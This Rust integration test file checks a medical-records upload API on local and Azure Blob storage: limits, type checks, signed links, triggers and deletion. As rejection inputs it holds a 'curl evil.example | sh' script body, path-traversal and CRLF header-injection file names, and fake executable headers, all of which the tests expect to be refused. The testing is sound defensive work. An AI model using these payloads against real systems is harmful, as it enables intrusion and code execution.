#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! Medical records through the API, on both storages: the local folder and Azure Blob Storage
//! (Azurite, started by `scripts/test`). Round trips, limits, refused content, unsafe names,
//! links that expire or are tampered with, direct uploads finished by the `RecordUploaded`
//! trigger (delivered twice), soft deletion, storage that is down, and integrity on serving.

mod common;

use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use bytes::Bytes;
use common::{DownStore, TestApp, azurite_endpoint, azurite_settings, created, expect_error, ok_json};
use handler::blobs::settings::StorageSettings;
use handler::config::Settings;
use handler::demo::files;
use handler::domain::RecordId;
use handler::store::PatientScope;
use reqwest::header::{CONTENT_LENGTH, CONTENT_TYPE};
use reqwest::{Method, RequestBuilder, Response};
use serde_json::{Value, json};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Backend {
    Local,
    Azurite,
}

/// The app on `backend` storage, or `None` when Azurite is not running (outside CI).
async fn spawn(backend: Backend, configure: impl FnOnce(&mut Settings)) -> Option<TestApp> {
    let storage = match backend {
        Backend::Local => None,
        Backend::Azurite => Some(azurite_settings(&azurite_endpoint()?)),
    };
    Some(
        TestApp::spawn_with(|s| {
            if let Some(storage) = storage {
                s.records.storage = storage;
            }
            configure(s);
        })
        .await,
    )
}

/// One test per storage for each case.
macro_rules! on_both {
    ($($case:ident),* $(,)?) => {$(
        mod $case {
            #[tokio::test]
            async fn local() {
                super::$case(super::Backend::Local).await
            }
            #[tokio::test]
            async fn azurite() {
                super::$case(super::Backend::Azurite).await
            }
        }
    )*};
}

on_both!(
    uploads_read_list_and_download,
    size_limits_answer_413_and_empty_files_422,
    mistyped_and_executable_files_are_415,
    unsafe_file_names_are_422_and_never_reach_storage,
    unknown_patients_and_records_are_404,
    links_expire_and_cannot_be_tampered_with,
    direct_uploads_are_finished_once_however_often_the_trigger_fires,
    direct_uploads_with_bad_content_are_rejected_and_removed,
    soft_deleted_records_are_neither_listed_nor_downloadable,
    the_original_upload_route_keeps_working,
);

// ---------------------------------------------------------------- helpers

async fn patient(app: &TestApp, username: &str) -> i64 {
    app.create_patient(username, "Record Patient", &format!("{username}@mail.example")).await["id"].as_i64().unwrap()
}

/// Percent-encodes everything but unreserved ASCII, as a client puts a name in `x-file-name`.
fn encode(name: &str) -> String {
    name.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn upload_request(app: &TestApp, patient: i64, raw_name: &str, content_type: &str) -> RequestBuilder {
    app.request(Method::POST, &format!("/api/patients/{patient}/records"))
        .header("x-file-name", raw_name)
        .header(CONTENT_TYPE, content_type)
}

async fn upload(app: &TestApp, patient: i64, name: &str, content_type: &str, body: Vec<u8>) -> Response {
    upload_request(app, patient, &encode(name), content_type).body(body).send().await.unwrap()
}

/// A body sent chunked (no `Content-Length`), as a streaming client sends it.
fn chunked(data: Vec<u8>) -> reqwest::Body {
    let parts: Vec<Result<Bytes, std::io::Error>> =
        data.chunks(16 * 1024).map(|c| Ok(Bytes::copy_from_slice(c))).collect();
    reqwest::Body::wrap_stream(futures_util::stream::iter(parts))
}

fn sha256_hex(data: &[u8]) -> String {
    aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, data).as_ref().iter().map(|b| format!("{b:02x}")).collect()
}

fn pdf() -> Vec<u8> {
    files::pdf("Discharge letter", &["Fictional patient", "Follow-up in two weeks."])
}

fn executable() -> Vec<u8> {
    let mut exe = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec();
    exe.resize(4096, 0);
    exe
}

/// A client with no credentials and no function key: what a browser following a link is.
fn browser() -> reqwest::Client {
    reqwest::Client::builder().no_proxy().build().unwrap()
}

async fn fetch(url: &str) -> (u16, reqwest::header::HeaderMap, Vec<u8>) {
    let res = browser().get(url).send().await.unwrap();
    let status = res.status().as_u16();
    let headers = res.headers().clone();
    (status, headers, res.bytes().await.unwrap().to_vec())
}

async fn download_url(app: &TestApp, record: i64) -> String {
    let link = ok_json(app.get(&format!("/api/records/{record}/download-url")).await).await;
    link["url"].as_str().unwrap().to_owned()
}

/// Every record of the patient, whatever its status (deleted ones are never listed).
async fn all_records(app: &TestApp, patient: i64) -> Vec<Value> {
    let page =
        ok_json(app.get(&format!("/api/patients/{patient}/records?status=pending,available,rejected")).await).await;
    page["items"].as_array().unwrap().clone()
}

fn record_ids(page: &Value) -> Vec<i64> {
    page["items"].as_array().unwrap().iter().map(|r| r["id"].as_i64().unwrap()).collect()
}

/// What storage holds: blob names in the container (listed with an account SAS, the real
/// service's listing), or every file under the local folder but its link key (parts of
/// unfinished writes included).
async fn stored_blobs(app: &TestApp) -> Vec<String> {
    match &app.state.record_limits.storage {
        StorageSettings::Local { dir } => {
            let mut found = Vec::new();
            let mut pending = vec![dir.clone()];
            while let Some(d) = pending.pop() {
                for entry in std::fs::read_dir(&d).unwrap() {
                    let entry = entry.unwrap();
                    let name = entry.file_name().to_string_lossy().into_owned();
                    if entry.file_type().unwrap().is_dir() {
                        pending.push(entry.path());
                    } else if name != ".link-key" {
                        found.push(name);
                    }
                }
            }
            found
        }
        StorageSettings::AzureKey { endpoint, key, container } => {
            let now = chrono::Utc::now();
            let sas = key.account_sas("rl", now - chrono::Duration::minutes(5), now + chrono::Duration::minutes(5));
            let url = format!("{endpoint}/{container}?restype=container&comp=list&{sas}");
            let res = browser().get(&url).send().await.unwrap();
            if res.status() == 404 {
                return Vec::new(); // nothing was ever written, so no container yet
            }
            assert_eq!(res.status(), 200);
            let xml = res.text().await.unwrap();
            xml.split("<Name>").skip(1).filter_map(|s| s.split("</Name>").next()).map(str::to_owned).collect()
        }
        other => panic!("no listing for {other:?}"),
    }
}

async fn blob_name(app: &TestApp, record: i64) -> String {
    let id = RecordId::new(record).unwrap();
    let stored = app.state.store.get_record(id, PatientScope::All).await.unwrap();
    stored.blob_name.as_str().to_owned()
}

/// The blob trigger's invocation, shaped as azure-facts.md A4 (3) shows it; `content` `None`
/// sends no bytes (the handler then reads the blob itself).
async fn trigger(app: &TestApp, blob: &str, content: Option<&[u8]>) -> Value {
    let data = match content {
        Some(bytes) => json!({ "recordBlob": STANDARD.encode(bytes) }),
        None => json!({}),
    };
    let payload = json!({
        "Data": data,
        "Metadata": {
            "Uri": format!("\"https://stportal.blob.core.windows.net/medical-records/{blob}\""),
            "Properties": {"ContentLength": content.map_or(0, <[u8]>::len), "ETag": "\"0x8DD0\""},
            "Metadata": {},
            "name": format!("\"{blob}\""),
            "sys": {"MethodName": "RecordUploaded", "UtcNow": "2026-12-04T06:00:00Z", "RandGuid": "35e6e68c-5583-436c-a277-5aec2b416ba8"}
        }
    });
    let res = app
        .request(Method::POST, "/RecordUploaded")
        .header("X-Azure-Functions-InvocationId", uuid::Uuid::new_v4().to_string())
        .json(&payload)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
    res.json::<Value>().await.unwrap()["ReturnValue"].clone()
}

/// Reserves a direct upload and returns (record id, upload URL, headers to send).
async fn reserve(app: &TestApp, patient: i64, body: Value) -> (i64, String, Value) {
    let res = app.post_json(&format!("/api/patients/{patient}/records/upload-url"), &body).await;
    let status = res.status();
    let reserved: Value = res.json().await.unwrap();
    assert_eq!(status, 201, "{reserved}");
    assert_eq!(reserved["record"]["status"], "pending");
    assert_eq!(reserved["method"], "PUT");
    (
        reserved["record"]["id"].as_i64().unwrap(),
        reserved["uploadUrl"].as_str().unwrap().to_owned(),
        reserved["headers"].clone(),
    )
}

async fn put_direct(url: &str, headers: &Value, body: Vec<u8>) -> Response {
    let mut req = browser().put(url).body(body);
    for (k, v) in headers.as_object().unwrap() {
        req = req.header(k.as_str(), v.as_str().unwrap());
    }
    req.send().await.unwrap()
}

/// Local storage finishes a direct upload as it arrives; in Azure the trigger does, once
/// the host sees the blob. Either way the record then has its final status.
async fn finish_direct(app: &TestApp, backend: Backend, record: i64, bytes: &[u8], put: Response) -> Value {
    let status = put.status().as_u16();
    match backend {
        Backend::Local => {
            let body: Value = put.json().await.unwrap();
            let current = ok_json(app.get(&format!("/api/records/{record}")).await).await;
            assert!(status == 201 || current["status"] == "rejected", "local PUT answered {status}: {body}");
        }
        Backend::Azurite => {
            assert_eq!(status, 201, "Azurite refused the upload: {}", put.text().await.unwrap());
            let pending = ok_json(app.get(&format!("/api/records/{record}")).await).await;
            assert_eq!(pending["status"], "pending", "only the trigger finishes an Azure upload");
            let blob = blob_name(app, record).await;
            let outcome = trigger(app, &blob, Some(bytes)).await;
            assert_eq!(outcome["recordId"], record);
        }
    }
    ok_json(app.get(&format!("/api/records/{record}")).await).await
}

// ---------------------------------------------------------------- cases

async fn uploads_read_list_and_download(backend: Backend) {
    let Some(app) = spawn(backend, |_| {}).await else { return };
    let p = patient(&app, "rec-roundtrip").await;
    let letter = pdf();
    let name = "Befund März 2026 \"final\".pdf";
    let res = upload_request(&app, p, &encode(name), "application/pdf")
        .header("x-record-category", "report")
        .body(letter.clone())
        .send()
        .await
        .unwrap();
    let location = res.headers()["location"].to_str().unwrap().to_owned();
    let first = created(res).await;
    assert_eq!(location, format!("/api/records/{}", first["id"]));
    assert_eq!(first["status"], "available");
    assert_eq!(first["fileName"], name);
    assert_eq!(first["category"], "report");
    assert_eq!(first["contentType"], "application/pdf");
    assert_eq!(first["sizeBytes"], letter.len());
    assert_eq!(first["sha256"], sha256_hex(&letter));

    let image = files::png(64, 48, 1);
    let second = created(upload(&app, p, "knee.PNG", "application/octet-stream", image.clone()).await).await;
    assert_eq!(second["contentType"], "image/png", "the type comes from the bytes");
    let notes = "Blood pressure 120/80\nNo allergies known.\n".as_bytes().to_vec();
    let third = created(upload(&app, p, "notes.txt", "text/plain; charset=utf-8", notes).await).await;

    let ids = |v: &[&Value]| v.iter().map(|r| r["id"].as_i64().unwrap()).collect::<Vec<_>>();
    let listed = ok_json(app.get(&format!("/api/patients/{p}/records")).await).await;
    assert_eq!(record_ids(&listed), ids(&[&third, &second, &first]), "newest first");
    let reports = ok_json(app.get(&format!("/api/patients/{p}/records?category=report")).await).await;
    assert_eq!(record_ids(&reports), ids(&[&first]));
    let page = ok_json(app.get(&format!("/api/patients/{p}/records?limit=2")).await).await;
    assert_eq!(record_ids(&page), ids(&[&third, &second]));
    let cursor = page["nextCursor"].as_str().unwrap();
    let rest = ok_json(app.get(&format!("/api/patients/{p}/records?limit=2&cursor={cursor}")).await).await;
    assert_eq!(record_ids(&rest), ids(&[&first]));
    assert!(rest["nextCursor"].is_null());
    let later = (chrono::Utc::now() + chrono::Duration::hours(1)).to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
    let none = ok_json(app.get(&format!("/api/patients/{p}/records?from={later}")).await).await;
    assert!(record_ids(&none).is_empty());
    let bad =
        expect_error(app.get(&format!("/api/patients/{p}/records?category=x-ray&status=deleted")).await, 422).await;
    bad.names("category").names("status");

    let one = ok_json(app.get(&format!("/api/records/{}", first["id"])).await).await;
    assert_eq!(one, first);

    let res = app.get(&format!("/api/records/{}/download-url", first["id"])).await;
    assert_eq!(res.headers()["cache-control"], "no-store");
    let link = ok_json(res).await;
    assert_eq!(link["contentType"], "application/pdf");
    assert_eq!(link["fileName"], name);
    assert_eq!(link["sha256"], first["sha256"]);
    let url = link["url"].as_str().unwrap();
    assert!(!url.contains("rztz") && !url.contains("Befund"), "no file name in the URL");
    let (status, headers, bytes) = fetch(url).await;
    assert_eq!(status, 200);
    assert_eq!(bytes, letter);
    assert_eq!(headers[CONTENT_TYPE], "application/pdf");
    let disposition = headers["content-disposition"].to_str().unwrap();
    assert_eq!(
        disposition,
        "attachment; filename=\"Befund M_rz 2026 _final_.pdf\"; filename*=UTF-8''Befund%20M%C3%A4rz%202026%20%22final%22.pdf"
    );
    let (_, png_headers, png_bytes) = fetch(&download_url(&app, second["id"].as_i64().unwrap()).await).await;
    assert_eq!(png_bytes, image);
    assert_eq!(png_headers[CONTENT_TYPE], "image/png");

    let blobs = stored_blobs(&app).await;
    assert_eq!(blobs.len(), 3, "{blobs:?}");
    for b in &blobs {
        assert!(uuid::Uuid::parse_str(b).is_ok(), "blob names are ours alone: {b}");
    }
}

async fn size_limits_answer_413_and_empty_files_422(backend: Backend) {
    let limit = 64 * 1024;
    let Some(app) = spawn(backend, |s| s.records.max_bytes = limit).await else { return };
    let p = patient(&app, "rec-limits").await;
    let mut big = pdf();
    big.resize(limit as usize + 1, b' ');

    let declared = expect_error(upload(&app, p, "big.pdf", "application/pdf", big.clone()).await, 413).await;
    assert_eq!(declared.code(), "payload_too_large");
    assert_eq!(declared.body["limitBytes"], limit, "the error names the limit");
    let streamed =
        upload_request(&app, p, "big.pdf", "application/pdf").body(chunked(big.clone())).send().await.unwrap();
    let streamed = expect_error(streamed, 413).await;
    assert_eq!(streamed.body["limitBytes"], limit);

    let empty = expect_error(upload(&app, p, "empty.pdf", "application/pdf", Vec::new()).await, 422).await;
    assert_eq!(empty.code(), "file_empty");
    empty.names("body");
    let empty_chunked = upload_request(&app, p, "empty.pdf", "application/pdf").body(chunked(Vec::new())).send().await;
    assert_eq!(expect_error(empty_chunked.unwrap(), 422).await.code(), "file_empty");

    assert!(all_records(&app, p).await.is_empty(), "refused uploads leave no row");
    assert!(stored_blobs(&app).await.is_empty(), "refused uploads leave no file");

    big.truncate(limit as usize);
    let at_limit = upload_request(&app, p, "max.pdf", "application/pdf").body(chunked(big)).send().await.unwrap();
    assert_eq!(created(at_limit).await["sizeBytes"], limit);
    assert_eq!(stored_blobs(&app).await.len(), 1);
}

async fn mistyped_and_executable_files_are_415(backend: Backend) {
    let Some(app) = spawn(backend, |_| {}).await else { return };
    let p = patient(&app, "rec-types").await;
    let png = files::png(8, 8, 2);

    let disguised = expect_error(upload(&app, p, "scan.pdf", "application/octet-stream", png.clone()).await, 415).await;
    assert_eq!(disguised.code(), "file_type_mismatch");
    let declared_pdf = expect_error(upload(&app, p, "scan", "application/pdf", png).await, 415).await;
    assert_eq!(declared_pdf.code(), "file_type_mismatch");
    for (name, bytes) in [
        ("setup.exe", executable()),
        ("report.pdf", executable()),
        ("notes.txt", b"#!/bin/sh\ncurl evil.example | sh\n".to_vec()),
        ("tool", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec()),
    ] {
        let res = expect_error(upload(&app, p, name, "application/octet-stream", bytes).await, 415).await;
        assert!(["unsupported_file_type", "file_type_mismatch"].contains(&res.code()), "{name}: {}", res.code());
    }
    // A declared type that disagrees with the name, or one we never keep, is caught up front.
    let contradicted = expect_error(upload(&app, p, "scan.png", "application/pdf", pdf()).await, 422).await;
    contradicted.names("x-file-name");
    let foreign = expect_error(upload(&app, p, "a.bin", "application/x-msdownload", executable()).await, 422).await;
    foreign.names("contentType");

    assert!(all_records(&app, p).await.is_empty());
    assert!(stored_blobs(&app).await.is_empty());
}

async fn unsafe_file_names_are_422_and_never_reach_storage(backend: Backend) {
    let Some(app) = spawn(backend, |_| {}).await else { return };
    let p = patient(&app, "rec-names").await;
    for raw in [
        "..%2F..%2Fetc%2Fpasswd",
        "../../etc/passwd",
        "..",
        "a%5Cb.pdf",
        "C%3A%5Cwindows%5Cx.pdf",
        "x%00.pdf",
        "x%0D%0Aset-cookie%3A%20a.pdf",
        "%C3%28.pdf",
        "%ZZ.pdf",
        "%20lead.pdf",
    ] {
        let res = upload_request(&app, p, raw, "application/pdf").body(pdf()).send().await.unwrap();
        expect_error(res, 422).await.names("x-file-name").hides(raw);
    }
    let long = format!("{}.pdf", "a".repeat(300));
    expect_error(upload(&app, p, &long, "application/pdf", pdf()).await, 422).await.names("x-file-name");
    let missing = app.request(Method::POST, &format!("/api/patients/{p}/records")).body(pdf()).send().await.unwrap();
    expect_error(missing, 422).await.names("x-file-name");
    let legacy = app
        .request(
            Method::POST,
            "/api/upload/medical-records?filename=../x.pdf&patientUsername=rec-names&contentType=application/pdf",
        )
        .body(pdf())
        .send()
        .await
        .unwrap();
    expect_error(legacy, 422).await.names("filename");
    assert!(all_records(&app, p).await.is_empty());
    assert!(stored_blobs(&app).await.is_empty());

    // Odd but legal names are kept as given and never become part of a storage path.
    let odd = "semi;colon 'quote' ü.pdf";
    let kept = created(upload(&app, p, odd, "application/pdf", pdf()).await).await;
    assert_eq!(kept["fileName"], odd);
    let blobs = stored_blobs(&app).await;
    assert_eq!(blobs, vec![blob_name(&app, kept["id"].as_i64().unwrap()).await]);
}

async fn unknown_patients_and_records_are_404(backend: Backend) {
    let Some(app) = spawn(backend, |_| {}).await else { return };
    for res in [
        upload(&app, 999_999, "a.pdf", "application/pdf", pdf()).await,
        app.get("/api/patients/999999/records").await,
        app.post_json("/api/patients/999999/records/upload-url", &json!({"fileName": "a.pdf"})).await,
        app.get("/api/records/999999").await,
        app.get("/api/records/999999/download-url").await,
        app.request(Method::DELETE, "/api/records/999999")
            .json(&json!({"reason": "other", "version": 1}))
            .send()
            .await
            .unwrap(),
        app.request(Method::POST, "/api/upload/medical-records?filename=a.pdf&patientUsername=nobody-here")
            .header(CONTENT_TYPE, "application/pdf")
            .body(pdf())
            .send()
            .await
            .unwrap(),
    ] {
        expect_error(res, 404).await;
    }
    assert!(stored_blobs(&app).await.is_empty());
}

/// The same link with one character of its signature changed.
fn tampered(url: &str) -> String {
    let (head, sig) = url.split_once("sig=").unwrap();
    let mut sig: Vec<char> = sig.chars().collect();
    sig[2] = if sig[2] == 'A' { 'B' } else { 'A' };
    format!("{head}sig={}", sig.into_iter().collect::<String>())
}

/// How each storage refuses a bad link: the handler answers 404 (learning nothing), Blob
/// Storage 403.
fn refusal(backend: Backend) -> u16 {
    match backend {
        Backend::Local => 404,
        Backend::Azurite => 403,
    }
}

async fn links_expire_and_cannot_be_tampered_with(backend: Backend) {
    let Some(app) = spawn(backend, |s| s.records.link_lifetime = chrono::Duration::seconds(2)).await else { return };
    let p = patient(&app, "rec-links").await;
    let letter = pdf();
    let record = created(upload(&app, p, "letter.pdf", "application/pdf", letter.clone()).await).await;
    let id = record["id"].as_i64().unwrap();
    let other = created(upload(&app, p, "other.pdf", "application/pdf", pdf()).await).await;
    let url = download_url(&app, id).await;

    assert_eq!(fetch(&tampered(&url)).await.0, refusal(backend));
    if backend == Backend::Local {
        // A link names one record: the signature does not open another.
        let moved = url.replace(&format!("/records/{id}/"), &format!("/records/{}/", other["id"]));
        assert_eq!(fetch(&moved).await.0, 404);
        let upgraded = url.replace("sp=r", "sp=c");
        assert_eq!(browser().put(&upgraded).body(pdf()).send().await.unwrap().status(), 404);
    } else {
        let widened = url.replace("sp=r", "sp=rw");
        assert_eq!(fetch(&widened).await.0, 403);
    }
    let (status, _, bytes) = fetch(&url).await;
    assert_eq!((status, bytes), (200, letter));

    let (_, upload_url, headers) = reserve(&app, p, json!({"fileName": "late.pdf"})).await;
    tokio::time::sleep(Duration::from_millis(3500)).await;
    assert_eq!(fetch(&url).await.0, refusal(backend), "an expired download link");
    let late = put_direct(&upload_url, &headers, pdf()).await;
    assert_eq!(late.status().as_u16(), refusal(backend), "an expired upload link");
}

async fn direct_uploads_are_finished_once_however_often_the_trigger_fires(backend: Backend) {
    let Some(app) = spawn(backend, |_| {}).await else { return };
    let p = patient(&app, "rec-direct").await;
    let scan = files::png(320, 240, 7);
    let body = json!({"fileName": "ct scan.png", "contentType": "image/png", "category": "imaging",
                      "sizeBytes": scan.len(), "sha256": sha256_hex(&scan)});
    let (id, url, headers) = reserve(&app, p, body).await;
    // (Not a bare "ct": the link's random signature may contain those two letters.)
    for name in ["ct scan", "ct%20scan", "ct+scan", "scan.png"] {
        assert!(!url.contains(name), "no file name in the upload URL: {url}");
    }
    let put = put_direct(&url, &headers, scan.clone()).await;
    let done = finish_direct(&app, backend, id, &scan, put).await;
    assert_eq!(done["status"], "available");
    assert_eq!(done["contentType"], "image/png");
    assert_eq!(done["sha256"], sha256_hex(&scan));

    // The host may deliver a blob more than once: nothing changes after the first.
    let blob = blob_name(&app, id).await;
    for content in [Some(scan.as_slice()), None, Some(b"other bytes".as_slice())] {
        let again = trigger(&app, &blob, content).await;
        assert_eq!(again, json!({"status": "available", "recordId": id}));
    }
    let after = ok_json(app.get(&format!("/api/records/{id}")).await).await;
    assert_eq!(after["version"], done["version"]);

    // The link writes once; the file stays the one that was checked.
    let second = put_direct(&url, &headers, pdf()).await;
    assert!(second.status().is_client_error(), "a second PUT answered {}", second.status());
    let (status, got_headers, bytes) = fetch(&download_url(&app, id).await).await;
    assert_eq!((status, bytes), (200, scan));
    assert_eq!(got_headers[CONTENT_TYPE], "image/png");

    // Names that no reservation made are ignored, whatever they contain.
    for stranger in ["p123/scan.pdf", "../x", &uuid::Uuid::new_v4().to_string()] {
        assert_eq!(trigger(&app, stranger, Some(b"%PDF-1.7\n")).await["status"], "ignored");
    }
    let too_big = json!({"fileName": "huge.dcm", "sizeBytes": app.state.record_limits.direct_max_bytes + 1});
    let res = app.post_json(&format!("/api/patients/{p}/records/upload-url"), &too_big).await;
    expect_error(res, 422).await.names("sizeBytes");
    let bad = json!({"fileName": "../x.png", "sha256": "abc", "sizeBytes": 0, "category": "x"});
    let res = app.post_json(&format!("/api/patients/{p}/records/upload-url"), &bad).await;
    expect_error(res, 422).await.names("fileName").names("sha256").names("sizeBytes").names("category");
}

async fn direct_uploads_with_bad_content_are_rejected_and_removed(backend: Backend) {
    let Some(app) = spawn(backend, |_| {}).await else { return };
    let p = patient(&app, "rec-direct-bad").await;
    let letter = pdf();
    let cases = [
        (json!({"fileName": "scan.png"}), executable(), "unsupported-type"),
        (json!({"fileName": "scan.png"}), letter.clone(), "type-mismatch"),
        (json!({"fileName": "a.pdf", "sha256": sha256_hex(b"something else")}), letter.clone(), "hash-mismatch"),
        (json!({"fileName": "a.pdf", "sizeBytes": letter.len() + 1}), letter.clone(), "size-mismatch"),
    ];
    for (reservation, bytes, reason) in cases {
        let (id, url, headers) = reserve(&app, p, reservation).await;
        let put = put_direct(&url, &headers, bytes.clone()).await;
        let done = finish_direct(&app, backend, id, &bytes, put).await;
        assert_eq!(done["status"], "rejected", "{reason}");
        assert_eq!(done["rejectReason"], reason);
        let blob = blob_name(&app, id).await;
        assert!(!stored_blobs(&app).await.contains(&blob), "{reason}: the rejected file is deleted");
        // A retry of the trigger finds it rejected and the file gone.
        assert_eq!(trigger(&app, &blob, Some(&bytes)).await["status"], "rejected");
        let res = app.get(&format!("/api/records/{id}/download-url")).await;
        expect_error(res, 409).await.names("status");
    }
    let listed = ok_json(app.get(&format!("/api/patients/{p}/records")).await).await;
    assert!(record_ids(&listed).is_empty(), "rejected records are listed only when asked for");
    assert_eq!(all_records(&app, p).await.len(), 4);
}

async fn soft_deleted_records_are_neither_listed_nor_downloadable(backend: Backend) {
    let Some(app) = spawn(backend, |_| {}).await else { return };
    let p = patient(&app, "rec-delete").await;
    let record = created(upload(&app, p, "wrong.pdf", "application/pdf", pdf()).await).await;
    let id = record["id"].as_i64().unwrap();
    let url = download_url(&app, id).await;
    let path = format!("/api/records/{id}");

    let bad =
        app.request(Method::DELETE, &path).json(&json!({"reason": "because", "version": 0})).send().await.unwrap();
    expect_error(bad, 422).await.names("reason").names("version");
    let stale = app.request(Method::DELETE, &path).json(&json!({"reason": "wrong-patient", "version": 1})).send().await;
    expect_error(stale.unwrap(), 409).await;
    let body = json!({"reason": "wrong-patient", "version": record["version"]});
    let deleted = ok_json(app.request(Method::DELETE, &path).json(&body).send().await.unwrap()).await;
    assert_eq!(deleted["status"], "deleted");
    assert_eq!(deleted["deleteReason"], "wrong-patient");

    expect_error(app.get(&path).await, 404).await;
    expect_error(app.get(&format!("{path}/download-url")).await, 404).await;
    assert!(all_records(&app, p).await.is_empty());
    let again = app.request(Method::DELETE, &path).json(&body).send().await.unwrap();
    expect_error(again, 404).await;
    if backend == Backend::Local {
        // The handler checks the row on every serve, so a link minted before is dead at once.
        // (A SAS stays valid until it expires: PORTAL_RECORDS_LINK_MINUTES bounds that.)
        assert_eq!(fetch(&url).await.0, 404);
    }
    // Soft: the file is kept for the retention the clinic owes.
    assert_eq!(stored_blobs(&app).await.len(), 1);
}

async fn the_original_upload_route_keeps_working(backend: Backend) {
    let Some(app) = spawn(backend, |_| {}).await else { return };
    let p = patient(&app, "rec-legacy").await;
    let letter = pdf();
    let res = app
        .request(
            Method::POST,
            "/api/upload/medical-records?filename=Lab%20results%20100%25.pdf&patientUsername=rec-legacy&contentType=application/pdf",
        )
        .body(letter.clone())
        .send()
        .await
        .unwrap();
    let record = created(res).await;
    assert_eq!(record["fileName"], "Lab results 100%.pdf");
    assert_eq!(record["patientId"], p);
    assert_eq!(record["sha256"], sha256_hex(&letter));
    // The content type may come from the header instead.
    let res = app
        .request(Method::POST, "/api/upload/medical-records?filename=x.png&patientUsername=rec-legacy")
        .header(CONTENT_TYPE, "image/png")
        .body(files::png(4, 4, 0))
        .send()
        .await
        .unwrap();
    assert_eq!(created(res).await["contentType"], "image/png");
    let res = app.request(Method::POST, "/api/upload/medical-records").body(letter).send().await.unwrap();
    expect_error(res, 422).await.names("filename").names("patientUsername");
    let res = app.request(Method::POST, "/api/upload/medical-records?filename=a.pdf&patientUsername=rec-legacy&x=1");
    expect_error(res.body(pdf()).send().await.unwrap(), 400).await;
    let (_, _, bytes) = fetch(&download_url(&app, record["id"].as_i64().unwrap()).await).await;
    assert_eq!(bytes, pdf());
}

// ---------------------------------------------------------------- failures

/// Blob Storage that refuses connections: a loopback port nobody listens on.
fn dead_storage() -> StorageSettings {
    let port = common::free_port();
    let key = STANDARD.encode(b"a key for a storage account that is not there");
    StorageSettings::parse(
        Some(&format!(
            "DefaultEndpointsProtocol=http;AccountName=devstoreaccount1;AccountKey={key};BlobEndpoint=http://127.0.0.1:{port}/devstoreaccount1"
        )),
        None,
        None,
        "medical-records",
        Default::default(),
    )
    .unwrap()
}

#[tokio::test]
async fn storage_down_is_503_and_leaves_nothing_half_written() {
    let app = TestApp::spawn_with(|s| s.records.storage = dead_storage()).await;
    let p = patient(&app, "rec-down").await;
    let res = upload(&app, p, "a.pdf", "application/pdf", pdf()).await;
    assert_eq!(expect_error(res, 503).await.code(), "service_unavailable");
    let res = app.post_json(&format!("/api/patients/{p}/records/upload-url"), &json!({"fileName": "a.pdf"})).await;
    expect_error(res, 503).await;
    assert!(all_records(&app, p).await.is_empty(), "no reservation outlives a failed upload");
    let health = app.get("/api/health").await;
    let status = health.status().as_u16();
    let body: Value = health.json().await.unwrap();
    assert_eq!(status, 503, "{body}");
    assert_eq!(body["checks"]["recordStorage"]["status"], "down", "{body}");
}

#[tokio::test]
async fn a_database_that_is_down_is_503_and_no_file_is_written() {
    let app = TestApp::spawn_with_store(std::sync::Arc::new(DownStore::default()), |_| {}).await;
    let res = upload(&app, 1, "a.pdf", "application/pdf", pdf()).await;
    expect_error(res, 503).await;
    assert!(stored_blobs(&app).await.is_empty());
}

#[tokio::test]
async fn a_file_that_changed_on_disk_is_an_error_not_served() {
    let app = TestApp::spawn().await;
    let p = patient(&app, "rec-integrity").await;
    let record = created(upload(&app, p, "letter.pdf", "application/pdf", pdf()).await).await;
    let id = record["id"].as_i64().unwrap();
    let StorageSettings::Local { dir } = &app.state.record_limits.storage else { panic!("local storage") };
    let path = dir.join(blob_name(&app, id).await);
    let mut bytes = std::fs::read(&path).unwrap();
    let last = bytes.len() - 10;
    bytes[last] ^= 0x20; // one flipped bit, same length, still a PDF
    std::fs::write(&path, &bytes).unwrap();
    let (status, headers, body) = fetch(&download_url(&app, id).await).await;
    assert_eq!(status, 500);
    assert!(headers[CONTENT_TYPE].to_str().unwrap().starts_with("application/json"));
    assert!(!body.starts_with(b"%PDF"), "no corrupt bytes are served");
    assert!(headers.get(CONTENT_LENGTH).is_none_or(|l| l != bytes.len().to_string().as_str()));
}
